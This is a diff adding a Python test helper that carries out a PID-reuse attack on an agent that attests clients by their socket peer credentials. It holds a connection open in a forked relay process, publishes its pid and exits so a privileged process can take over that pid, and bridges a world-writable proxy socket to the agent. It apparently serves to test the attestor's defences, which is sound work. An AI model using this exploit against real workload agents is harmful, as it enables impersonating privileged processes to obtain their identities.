@@ -1,0 +1,45 @@
+"""The PID-reuse attack on a peer-credential attestor.
+
+This process connects to the agent (so SO_PEERCRED names *its* pid), forks a
+holder that keeps the connection, prints its pid and exits. The test then gets a
+privileged process started on the same pid. The holder relays bytes between the
+proxy socket (argv[2]) and the agent connection, so a gRPC client on the proxy
+speaks to the agent over a connection whose recorded peer pid now belongs to
+the privileged process."""
+import os
+import socket
+import sys
+import threading
+
+agent_path, proxy_path = sys.argv[1], sys.argv[2]
+upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+upstream.connect(agent_path)
+listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+listener.bind(proxy_path)
+os.chmod(proxy_path, 0o777)
+listener.listen(1)
+
+if os.fork() == 0:
+    # Let go of the test's stdout pipe, so it sees EOF when the parent exits.
+    devnull = os.open(os.devnull, os.O_RDWR)
+    os.dup2(devnull, 1)
+    os.dup2(devnull, 2)
+    client, _ = listener.accept()
+
+    def pump(src, dst):
+        while True:
+            data = src.recv(65536)
+            if not data:
+                break
+            dst.sendall(data)
+        try:
+            dst.shutdown(socket.SHUT_WR)
+        except OSError:
+            pass
+
+    threading.Thread(target=pump, args=(client, upstream), daemon=True).start()
+    pump(upstream, client)
+    os._exit(0)
+
+print(os.getpid(), flush=True)
+os._exit(0)
